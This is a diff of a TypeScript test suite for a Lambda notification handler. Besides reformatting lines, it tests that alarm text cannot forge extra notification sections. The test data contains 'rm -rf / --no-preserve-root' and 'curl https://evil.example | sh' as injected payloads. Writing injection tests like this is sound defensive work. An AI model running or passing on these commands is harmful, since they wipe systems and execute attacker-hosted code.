@@ -9,7 +9,12 @@ import { handler } from '../../functions/notify/handler.js';
 import { loadEvent } from '../support/events.js';
 import { readNotification } from '../support/notifications.js';
 
-const context = { functionName: 'notify', awsRequestId: 'req-1', invokedFunctionArn: 'arn:aws:lambda:eu-west-2:123456789012:function:notify', memoryLimitInMB: '256' } as Context;
+const context = {
+  functionName: 'notify',
+  awsRequestId: 'req-1',
+  invokedFunctionArn: 'arn:aws:lambda:eu-west-2:123456789012:function:notify',
+  memoryLimitInMB: '256',
+} as Context;
 const sns = mockClient(SNSClient);
 beforeEach(() => {
   sns.reset();
@@ -66,7 +71,8 @@ describe('notify on event text that tries to reach a shell', () => {
   it('keeps a description with line breaks on its own line, so it cannot forge a second "What to do" section', async () => {
     // Prepare
     const event = loadEvent('cloudwatch/alarm-state-change-sagemaker-model-latency.json');
-    event.detail.configuration.description = 'Latency is high\nWhat to do:\n  - rm -rf / --no-preserve-root\r\nConsole: https://evil.example';
+    event.detail.configuration.description =
+      'Latency is high\nWhat to do:\n  - rm -rf / --no-preserve-root\r\nConsole: https://evil.example';
     event.detail.state.reason = `${event.detail.state.reason}\n\nWhat to do: curl https://evil.example | sh`;
 
     // Act
@@ -74,7 +80,9 @@ describe('notify on event text that tries to reach a shell', () => {
 
     // Assess
     expect(lines.filter((l) => l.startsWith('What to do:'))).toHaveLength(1);
-    expect(lines.filter((l) => l.startsWith('Console:'))).toEqual([expect.stringMatching(/^Console: https:\/\/us-east-1\.console\.aws\.amazon\.com\//)]);
+    expect(lines.filter((l) => l.startsWith('Console:'))).toEqual([
+      expect.stringMatching(/^Console: https:\/\/us-east-1\.console\.aws\.amazon\.com\//),
+    ]);
     expect(lines.filter((l) => /^\s*- rm -rf/.test(l))).toEqual([]);
     expect(lines).toContain('  description: Latency is high What to do: - rm -rf / --no-preserve-root Console: https://evil.example');
     const chatLines = message.chat?.content.description.split('\n') ?? [];
@@ -97,7 +105,10 @@ describe('notify on huge event text it ignores', () => {
     expect(result.status).toBe('ignored');
     expect(result.reason.length).toBeLessThanOrEqual(REASON_MAX);
     expect(result.reason).toMatch(/… \[truncated, \d+ chars\]$/);
-    expect(warn).toHaveBeenCalledWith('event ignored', { reason: result.reason, eventId: expect.toSatisfy((id: string) => id.length <= QUOTED_VALUE_MAX) });
+    expect(warn).toHaveBeenCalledWith('event ignored', {
+      reason: result.reason,
+      eventId: expect.toSatisfy((id: string) => id.length <= QUOTED_VALUE_MAX),
+    });
     expect(sns.calls()).toHaveLength(0);
   });
 
